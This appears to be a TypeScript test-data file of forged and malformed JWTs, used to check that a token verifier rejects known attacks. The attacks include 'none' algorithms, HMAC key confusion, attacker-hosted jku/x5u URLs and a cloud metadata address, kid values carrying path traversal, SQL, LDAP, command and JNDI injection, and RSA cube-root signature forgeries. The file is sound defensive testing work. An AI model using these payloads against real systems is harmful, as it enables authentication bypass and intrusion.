import { constants, createHash, createHmac, generateKeyPairSync, sign } from 'node:crypto'
import {
  canary,
  claimsOf,
  decode,
  encode,
  forge,
  resign,
  rs256,
  searchToken,
  segmentsOf,
  sha256,
  signBlock,
} from './support/forge.ts'
import {
  cubicKey,
  curveKey,
  encryptionKey,
  foreignKey,
  mainKey,
  modulus,
  modulusBytes,
  poolOptions,
  publicJwk,
  publishedSecret,
  weakKey,
} from './support/keys.ts'
import { padded, paddings, rootOfPrefix, rootOfPrefixAndSuffix } from './support/padding.ts'
import type { Row } from './support/row.ts'
import { headers, rowsOf, signed, tokens } from './support/rows.ts'

const admitted = { answer: 'admitted' } as const
const algorithm = { answer: 'invalid', reason: 'algorithm' } as const
const badHeader = { answer: 'invalid', reason: 'header' } as const
const badKid = { answer: 'invalid', reason: 'kid' } as const
const kidUnknown = { answer: 'invalid', reason: 'kid_unknown' } as const
const badSignature = { answer: 'invalid', reason: 'signature' } as const
const notAToken = { answer: 'invalid', reason: 'malformed_token' } as const

const token = forge()
const { header: h, payload: p, signature: s } = segmentsOf(token)
const signature = decode(s)

// --- algorithms -----------------------------------------------------------------------------------------------------

const anyAlgorithm = 'RFC 8725, section 3.1'

const unsigned = `${anyAlgorithm}, and CVE-2022-23540`

const withoutSignature: Row[] = []
for (const alg of ['none', 'None', 'NONE', 'nOnE', 'none ', ' none', 'none\0']) {
  const name = JSON.stringify(alg)
  const labelled = forge({ header: { alg } })
  withoutSignature.push(
    ...tokens(algorithm, unsigned, {
      [`${name} with the right signature`]: labelled,
      [`${name} with one byte for a signature`]: resign(labelled, Buffer.alloc(1)),
    }),
    ...tokens(notAToken, unsigned, {
      [`${name} with an empty signature`]: resign(labelled, Buffer.alloc(0)),
    }),
  )
}

const spkiPem = mainKey.publicKey.export({ type: 'spki', format: 'pem' }).toString()
const pkcs1Pem = mainKey.publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()
const spkiDer = mainKey.publicKey.export({ type: 'spki', format: 'der' })
const pkcs1Der = mainKey.publicKey.export({ type: 'pkcs1', format: 'der' })
const jwk = publicJwk(mainKey)

/** Everything that somebody may have taken for the secret. */
const secrets: Readonly<Record<string, string | Buffer>> = {
  'the key in PEM': spkiPem,
  'the key in PEM without the last line break': spkiPem.trimEnd(),
  'the key in PEM with a line break in front': `\n${spkiPem}`,
  'the key in PEM with a space in front': ` ${spkiPem}`,
  'the key in PEM with text in front': `public key\n${spkiPem}`,
  'the key in PEM with carriage returns': spkiPem.replaceAll('\n', '\r\n'),
  'the key in PEM on one line': spkiPem.replaceAll('\n', ''),
  'the key in PEM with escaped line breaks': spkiPem.replaceAll('\n', String.raw`\n`),
  'the key in PEM without its frame': spkiPem.replaceAll(/-----[^-]+-----\n?/g, ''),
  'the key in PEM of PKCS #1': pkcs1Pem,
  'the key in PEM of PKCS #1 without the last line break': pkcs1Pem.trimEnd(),
  'the key in DER': spkiDer,
  'the key in DER of PKCS #1': pkcs1Der,
  'the key in DER, in base64': spkiDer.toString('base64'),
  'the key in DER, in base64url': spkiDer.toString('base64url'),
  'the key in DER of PKCS #1, in base64': pkcs1Der.toString('base64'),
  'the key in DER, in hexadecimal': spkiDer.toString('hex'),
  'the key in JSON': JSON.stringify(jwk),
  'the key in JSON with its essential members': JSON.stringify({ e: jwk.e, kty: 'RSA', n: jwk.n }),
  'the key in indented JSON': JSON.stringify(jwk, null, 2),
  'the key set in JSON': JSON.stringify(poolOptions.jwks),
  'the modulus': modulusBytes(mainKey),
  'the modulus in base64url': String(jwk.n),
  'the modulus in hexadecimal': modulusBytes(mainKey).toString('hex'),
  'the modulus in decimal': modulus.toString(),
  'the fingerprint of the key': sha256(spkiDer),
  'the kid': mainKey.kid,
  nothing: '',
  'a zero byte': '\0',
  'the word secret': 'secret',
}

const confusion = 'RFC 8725, sections 2.1 and 3.1'

const confusionOf: Readonly<Record<string, string>> = {
  'the key in PEM': `${confusion}, and CVE-2022-23541`,
  'the key in PEM of PKCS #1': `${confusion}, CVE-2017-11424, and CVE-2023-48223`,
  'the key in PEM with a space in front': `${confusion}, and CVE-2026-34950`,
  'the key in PEM with text in front': `${confusion}, and CVE-2026-107722`,
  'the key in PEM with carriage returns': `${confusion}, and CVE-2026-102268`,
  'the key in DER': `${confusion}, and CVE-2022-29217`,
}

const keyAsSecret: Row[] = []
for (const [name, secret] of Object.entries(secrets)) {
  const source = confusionOf[name] ?? confusion
  const mac = (bits: number) => (input: Buffer) => createHmac(`sha${bits}`, secret).update(input).digest()
  keyAsSecret.push(
    ...signed(algorithm, source, {
      [`HS256 with ${name}`]: { header: { alg: 'HS256' }, sign: mac(256) },
      [`HS384 with ${name}`]: { header: { alg: 'HS384' }, sign: mac(384) },
      [`HS512 with ${name}`]: { header: { alg: 'HS512' }, sign: mac(512) },
    }),
    ...signed(badSignature, source, { [`RS256 in name, HS256 with ${name}`]: { sign: mac(256) } }),
  )
}

const pss = (input: Buffer): Buffer =>
  sign('sha256', input, { key: mainKey.privateKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 })
const pkcs1With = (hash: string) => (input: Buffer) => sign(hash, input, mainKey.privateKey)
const ecdsa = (input: Buffer): Buffer =>
  sign('sha256', input, { key: curveKey.privateKey, dsaEncoding: 'ieee-p1363' })
const eddsa = (input: Buffer): Buffer => sign(null, input, generateKeyPairSync('ed25519').privateKey)

const otherAlgorithms: readonly Row[] = [
  ...signed(algorithm, anyAlgorithm, {
    PS256: { header: { alg: 'PS256' }, sign: pss },
    'PS256 in name, RS256 in fact': { header: { alg: 'PS256' } },
    RS384: { header: { alg: 'RS384' }, sign: pkcs1With('sha384') },
    RS512: { header: { alg: 'RS512' }, sign: pkcs1With('sha512') },
    RS1: { header: { alg: 'RS1' }, sign: pkcs1With('sha1') },
    'ES256 with a curve key of the pool': { key: curveKey, header: { alg: 'ES256' }, sign: ecdsa },
    'ES256 with the name of the RSA key': { header: { alg: 'ES256' }, sign: ecdsa },
    ES256K: { header: { alg: 'ES256K' }, sign: ecdsa },
    EdDSA: { header: { alg: 'EdDSA' }, sign: eddsa },
    'HS256 with a secret that the pool publishes': {
      header: { alg: 'HS256', kid: 'secret' },
      sign: (input) => createHmac('sha256', publishedSecret).update(input).digest(),
    },
  }),
  ...signed(algorithm, 'CVE-2022-21449', {
    'ES256 with zeros for a signature': {
      key: curveKey,
      header: { alg: 'ES256' },
      sign: () => Buffer.alloc(64),
    },
  }),
  ...signed(badSignature, anyAlgorithm, {
    'RS256 in name, PS256 in fact': { sign: pss },
    'RS256 in name, RS384 in fact': { sign: pkcs1With('sha384') },
    'RS256 in name, RS512 in fact': { sign: pkcs1With('sha512') },
    'RS256 in name, RS1 in fact': { sign: pkcs1With('sha1') },
    'RS256 in name, ES256 in fact': { sign: ecdsa },
    'RS256 in name, EdDSA in fact': { sign: eddsa },
  }),
  ...headers(algorithm, 'RFC 7515, section 4.1.1', {
    'no algorithm': { alg: undefined },
    'an algorithm in lower case': { alg: 'rs256' },
    'an algorithm and a space': { alg: 'RS256 ' },
    'an algorithm and a zero byte': { alg: 'RS256\0' },
    'an algorithm in letters of full width': { alg: 'ＲＳ２５６' },
    'an empty algorithm': { alg: '' },
    'an algorithm that is null': { alg: null },
    'an algorithm that is true': { alg: true },
    'an algorithm that is zero': { alg: 0 },
    'an algorithm in an array': { alg: ['RS256'] },
    'an algorithm in an object': { alg: { name: 'RS256' } },
    'the name of a method for an algorithm': { alg: 'toString' },
    'the name of a prototype for an algorithm': { alg: '__proto__' },
    'the algorithm in OpenSSL’s words': { alg: 'RSA-SHA256' },
    'an algorithm for encryption': { alg: 'RSA-OAEP' },
    'an algorithm for direct encryption': { alg: 'dir' },
  }),
]

// --- keys -----------------------------------------------------------------------------------------------------------

const ownKey = publicJwk(foreignKey)
const notFromToken = 'RFC 8725, section 3.10'

const keysInTheHeader: readonly Row[] = [
  ...signed(badSignature, `${notFromToken}, and CVE-2018-0114`, {
    'a key in the header': { key: foreignKey, header: { kid: mainKey.kid, jwk: ownKey } },
    'a key in the header with the name of the pool’s': {
      key: foreignKey,
      header: { kid: mainKey.kid, jwk: { ...ownKey, kid: mainKey.kid } },
    },
  }),
  ...signed(kidUnknown, `${notFromToken}, and CVE-2018-0114`, {
    'a key in the header with a name of its own': { key: foreignKey, header: { jwk: ownKey } },
  }),
  ...signed(badSignature, notFromToken, {
    'the address of a key set': {
      key: foreignKey,
      header: { kid: mainKey.kid, jku: 'https://keys.attacker.example/jwks.json' },
    },
    'the address of a key set on this machine': {
      key: foreignKey,
      header: { kid: mainKey.kid, jku: 'http://127.0.0.1:9/jwks.json' },
    },
    'the address of a metadata service': {
      key: foreignKey,
      header: { kid: mainKey.kid, jku: 'http://169.254.169.254/latest/meta-data/' },
    },
    'the address of a file': { key: foreignKey, header: { kid: mainKey.kid, jku: 'file:///dev/stdin' } },
    'a key set in the address': {
      key: foreignKey,
      header: { kid: mainKey.kid, jku: `data:application/json,${JSON.stringify({ keys: [ownKey] })}` },
    },
    'the address of a certificate': {
      key: foreignKey,
      header: { kid: mainKey.kid, x5u: 'https://keys.attacker.example/chain.pem' },
    },
    'a certificate in the header': {
      key: foreignKey,
      header: {
        kid: mainKey.kid,
        x5c: [foreignKey.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
        x5t: encode(sha256(Buffer.from(canary)).subarray(0, 20)),
        'x5t#S256': encode(sha256(Buffer.from(canary))),
      },
    },
  }),
  ...headers(admitted, 'RFC 7515, section 4', {
    'another key in the header of a good token': { jwk: ownKey },
    'addresses in the header of a good token': {
      jku: 'https://keys.attacker.example/jwks.json',
      x5u: 'file:///dev/stdin',
    },
    'a certificate in the header of a good token': { x5c: ['AA=='], x5t: 'AA' },
  }),
]

const chosenKeys: readonly Row[] = [
  ...signed(admitted, 'RFC 7515, section 4.1.4', { 'the other key of the pool': { key: cubicKey } }),
  ...signed(badSignature, 'RFC 7515, section 4.1.4', {
    'a key of the pool under the name of another': { key: cubicKey, header: { kid: mainKey.kid } },
    'the name of a key of the pool with another’s signature': { header: { kid: cubicKey.kid } },
    'a foreign key under the name of the pool’s': { key: foreignKey, header: { kid: mainKey.kid } },
  }),
  ...signed(kidUnknown, 'RFC 7515, section 4.1.4', {
    'a foreign key': { key: foreignKey },
  }),
  ...signed(kidUnknown, 'RFC 7517, section 4.2', { 'a key for encryption': { key: encryptionKey } }),
  ...signed(kidUnknown, 'RFC 7518, section 3.3', {
    'a key of 1024 bits': { key: weakKey },
    'the name of a curve key': { header: { kid: curveKey.kid } },
    'the name of a secret': { header: { kid: 'secret' } },
  }),
  ...headers(badKid, 'RFC 7515, section 4.1.4', {
    'no kid': { kid: undefined },
    'a kid that is null': { kid: null },
    'a kid that is true': { kid: true },
    'a kid that is a number': { kid: 1 },
    'a kid that is an object': { kid: {} },
    'a kid that is an object with a length': { kid: { length: 4, toString: 'main' } },
    'a kid in an array': { kid: [mainKey.kid] },
  }),
  ...headers(kidUnknown, notFromToken, {
    'an empty kid': { kid: '' },
    'a kid in upper case': { kid: 'MAIN' },
    'a kid and a space': { kid: 'main ' },
    'a kid and a zero byte': { kid: 'main\0' },
    'a kid and an extension': { kid: 'main.pem' },
    'a kid that leads to a device': { kid: '/dev/null' },
    'a kid that leads up': { kid: '../../../../../../../dev/null' },
    'a kid that leads up in Windows': { kid: String.raw`..\..\..\..\nul` },
    'a kid that leads up and has an extension cut off': { kid: '../../etc/hostname\0.pem' },
    'a kid that is a URL': { kid: 'https://keys.attacker.example/jwks.json' },
    'a kid that closes a string of SQL': { kid: `x' UNION SELECT '${canary}' --` },
    'a kid that closes a string of SQL and goes on': { kid: "main'; DROP TABLE keys; --" },
    'a kid for LDAP': { kid: '*)(uid=*))(|(uid=*' },
    'a kid that is a command': { kid: '|/usr/bin/touch canary' },
    'a kid that is a command in backticks': { kid: '`touch canary`' },
    'a kid that is a template': { kid: '${jndi:ldap://attacker.example/a}' },
    'a kid with line breaks': { kid: `main\r\nX-Injected: 1\r\n\r\n{"level":60,"msg":"${canary}"}` },
    'a kid with escapes of a terminal': { kid: '\x1B[2J\x1B]0;canary\x07' },
    'a kid with marks that turn the writing': { kid: '\u202Eniam\u202C' },
    'a kid that is a query for MongoDB': { kid: '{"$ne":null}' },
    'a kid that is __proto__': { kid: '__proto__' },
    'a kid that is constructor': { kid: 'constructor' },
    'a kid that is hasOwnProperty': { kid: 'hasOwnProperty' },
    'a kid that is size': { kid: 'size' },
    'a kid that is undefined in letters': { kid: 'undefined' },
    'a kid with a look-alike letter': { kid: 'mаin' },
  }),
  {
    name: 'a kid of 40,000 characters',
    token: forge({ header: { kid: canary.repeat(6666) } }),
    server: 'roomy',
    ...kidUnknown,
    source: notFromToken,
  },
]

// --- header members -------------------------------------------------------------------------------------------------

const critical = 'RFC 7515, section 4.1.11, CVE-2025-59420, CVE-2026-32597, and CVE-2026-35042'
const explicitType = 'RFC 8725, section 3.11'

const headerMembers: readonly Row[] = [
  ...headers(badHeader, critical, {
    'crit with an unknown name': { crit: ['x-policy'], 'x-policy': 'strict' },
    'crit with a known name': { crit: ['exp'], exp: 1 },
    'crit with a claim’s name': { crit: ['cnf'], cnf: { jkt: 'x' } },
    'crit with a name that is absent': { crit: ['x-policy'] },
    'crit with b64': { crit: ['b64'], b64: true },
    'crit that is empty': { crit: [] },
    'crit that is a string': { crit: 'exp' },
    'crit that is null': { crit: null },
    'crit that is false': { crit: false },
    'crit that is an object': { crit: {} },
  }),
  ...headers(badHeader, 'RFC 7797, sections 3 and 7', {
    'b64 that is false': { b64: false },
    'b64 that is true': { b64: true },
    'b64 that is null': { b64: null },
  }),
  ...signed(badHeader, 'RFC 7797, section 5', {
    'a payload that is not encoded': {
      header: { b64: false, crit: ['b64'] },
      sign: (input, key) => {
        const [header = '', payload = ''] = input.toString().split('.')
        return rs256(Buffer.from(`${header}.${decode(payload).toString()}`), key)
      },
    },
  }),
  ...headers(admitted, `${explicitType}, and RFC 9068, section 2.1`, {
    'the type JWT': { typ: 'JWT' },
    'the type JWT in lower case': { typ: 'jwt' },
    'the type of access tokens': { typ: 'at+jwt' },
    'the type of access tokens in upper case': { typ: 'AT+JWT' },
    'the type JWT in full': { typ: 'application/jwt' },
    'the type of access tokens in full': { typ: 'application/at+jwt' },
    'the type of access tokens in full and mixed case': { typ: 'Application/At+Jwt' },
  }),
  ...headers(badHeader, explicitType, {
    'an empty type': { typ: '' },
    'a type that is null': { typ: null },
    'a type that is a number': { typ: 1 },
    'a type in an array': { typ: ['JWT'] },
    'the type of encrypted tokens': { typ: 'JWE' },
    'the type of any signature': { typ: 'JOSE' },
    'the type of proofs of possession': { typ: 'dpop+jwt' },
    'the type of logout tokens': { typ: 'logout+jwt' },
    'the type of security events': { typ: 'secevent+jwt' },
    'the type of request objects': { typ: 'oauth-authz-req+jwt' },
    'the type of client assertions': { typ: 'client-authentication+jwt' },
    'a type and a space': { typ: 'JWT ' },
    'a type behind a line break': { typ: '\nJWT' },
    'a type before a line break': { typ: 'JWT\n' },
    'a type with parameters': { typ: 'at+jwt; charset=utf-8' },
    'a type of text': { typ: 'text/jwt' },
    'a prefix alone': { typ: 'application/' },
    'a prefix twice': { typ: 'application/application/jwt' },
    'a type with a suffix': { typ: 'JWTS' },
    'a type with a dotless letter': { typ: 'appl\u0131cation/jwt' },
  }),
]

// --- signatures -----------------------------------------------------------------------------------------------------

const signatureLength = 'RFC 8017, section 8.2.2, step 1'
const signatureRange = 'RFC 8017, section 5.2.2, step 1'
const length = signature.length

function number(value: bigint, bytes = length): Buffer {
  return Buffer.from(value.toString(16).padStart(2 * bytes, '0'), 'hex')
}

const valueOf = (bytes: Buffer): bigint => BigInt(`0x${bytes.toString('hex')}`)
const value = valueOf(signature)

const shortened = searchToken((bytes) => bytes.readUInt8(0) === 0)
const raised = searchToken((bytes) => valueOf(bytes) + modulus < 2n ** BigInt(8 * length))

const degenerate: readonly Row[] = [
  ...tokens(notAToken, 'CVE-2020-28042', { 'an empty signature': `${h}.${p}.` }),
  ...tokens(badSignature, signatureLength, {
    'a signature of one byte': resign(token, Buffer.alloc(1, 1)),
    'a signature without its last byte': resign(token, signature.subarray(0, -1)),
    'a signature without its first byte': resign(token, signature.subarray(1)),
    'half a signature': resign(token, signature.subarray(0, length / 2)),
    'a signature twice': resign(token, Buffer.concat([signature, signature])),
    'a signature and a zero byte': resign(token, Buffer.concat([signature, Buffer.alloc(1)])),
    'a signature without its leading zero': resign(
      shortened,
      decode(segmentsOf(shortened).signature).subarray(1),
    ),
  }),
  ...tokens(
    badSignature,
    signatureLength,
    { 'a signature of 20,000 bytes': resign(token, Buffer.alloc(20_000, 0xa5)) },
    { server: 'roomy' },
  ),
  ...tokens(badSignature, `${signatureLength}, and CVE-2020-14968`, {
    'a zero byte and a signature': resign(token, Buffer.concat([Buffer.alloc(1), signature])),
    'sixteen zero bytes and a signature': resign(token, Buffer.concat([Buffer.alloc(16), signature])),
  }),
  ...tokens(badSignature, signatureRange, {
    zero: resign(token, number(0n)),
    one: resign(token, number(1n)),
    two: resign(token, number(2n)),
    'all bits set': resign(token, Buffer.alloc(length, 0xff)),
    'the highest bit': resign(token, number(2n ** BigInt(8 * length - 1))),
    'the modulus less one': resign(token, number(modulus - 1n)),
    'the modulus': resign(token, number(modulus)),
    'the modulus and one': resign(token, number(modulus + 1n)),
    'a signature raised by the modulus': resign(
      raised,
      number(valueOf(decode(segmentsOf(raised).signature)) + modulus),
    ),
    'a signature raised by the modulus, one byte longer': resign(token, number(value + modulus, length + 1)),
    'the modulus less a signature': resign(token, number(modulus - value)),
  }),
  ...tokens(badSignature, 'RFC 7515, section 5.2', {
    'a signature in reverse': resign(token, Buffer.from(signature.toReversed())),
    'a signature with all bits turned': resign(token, Buffer.from(signature.map((byte) => ~byte))),
    'a signature with one bit turned': resign(token, number(value ^ 1n)),
    'a signature in hexadecimal': resign(token, Buffer.from(signature.toString('hex'))),
    'a signature in base64url, encoded again': resign(token, Buffer.from(s)),
    'the digest in place of a signature': resign(token, sha256(Buffer.from(`${h}.${p}`))),
    'the signature of another token': `${h}.${p}.${segmentsOf(forge({ claims: { jti: 'another' } })).signature}`,
    'the payload of another token': `${h}.${encode(JSON.stringify(claimsOf({ sub: 'root' })))}.${s}`,
    'the header of another token': `${segmentsOf(forge({ header: { typ: 'JWT' } })).header}.${p}.${s}`,
  }),
  ...tokens(badSignature, 'CVE-2024-51744', {
    'a bad signature on a token that has expired': `${h}.${encode(JSON.stringify(claimsOf({ exp: 1 })))}.${s}`,
    'a bad signature on a token of another client': `${h}.${encode(JSON.stringify(claimsOf({ client_id: 'other' })))}.${s}`,
    'a bad signature on a token without claims but the issuer': `${h}.${encode(JSON.stringify({ iss: claimsOf().iss }))}.${s}`,
  }),
  ...tokens(badSignature, 'CVE-2026-35039', {
    'a remembered header and payload, another signature': resign(token, Buffer.alloc(length, 7)),
  }),
]

const rightBlock = 'RFC 8017, section 9.2'

/** Blocks of the padding's kind, which the key itself has signed. */
const blocks: readonly Row[] = [
  ...signed(admitted, rightBlock, {
    'the right block': { sign: (input, key) => signBlock(padded(sha256(input)), key) },
  }),
  ...rowsOf(paddings, ({ block, source = rightBlock }) => ({
    token: forge({ sign: (input, key) => signBlock(block(input), key) }),
    ...badSignature,
    source,
  })),
]

/** Blocks that nobody has signed: with the exponent 3 a cube root is enough, if garbage is tolerated somewhere. */
const roots: readonly Row[] = signed(badSignature, 'CVE-2006-4339', {
  'a cube root with garbage behind the digest': {
    key: cubicKey,
    sign: (input) => number(rootOfPrefix(padded(sha256(input), { fillLength: 8 }), length)),
  },
  'a cube root with garbage behind the digest, and a short fill': {
    key: cubicKey,
    sign: (input) => number(rootOfPrefix(padded(sha256(input), { fillLength: 1 }), length)),
  },
  'the cube root of one': { key: cubicKey, sign: () => number(1n) },
})

const rootWithSuffix: Row = {
  name: 'a cube root with garbage in the fill',
  token: searchOddDigest(),
  ...badSignature,
  source: 'CVE-2016-1494',
}

/** Only odd numbers have a cube root among the powers of two. */
function searchOddDigest(): string {
  const isOdd = (input: Buffer): boolean => sha256(input).readUInt8(31) % 2 === 1
  return searchToken(
    (_signature, candidate) => isOdd(Buffer.from(candidate.slice(0, candidate.lastIndexOf('.')))),
    {
      key: cubicKey,
      sign: (input) =>
        isOdd(input) ? number(rootOfPrefixAndSuffix(padded(sha256(input)), length)) : Buffer.alloc(length),
    },
  )
}

/** The digest of another hash in the shape of this one. */
const otherDigest: readonly Row[] = signed(badSignature, rightBlock, {
  'a digest of SHA-512, cut short': {
    sign: (input, key) => signBlock(padded(createHash('sha512').update(input).digest().subarray(0, 32)), key),
  },
  'a digest of a digest': { sign: (input, key) => signBlock(padded(sha256(sha256(input))), key) },
  'a digest in reverse': {
    sign: (input, key) => signBlock(padded(Buffer.from(sha256(input).toReversed())), key),
  },
})

export const algorithmsAndKeys: readonly Row[] = [
  ...withoutSignature,
  ...keyAsSecret,
  ...otherAlgorithms,
  ...keysInTheHeader,
  ...chosenKeys,
  ...headerMembers,
  ...degenerate,
  ...blocks,
  ...roots,
  rootWithSuffix,
  ...otherDigest,
]
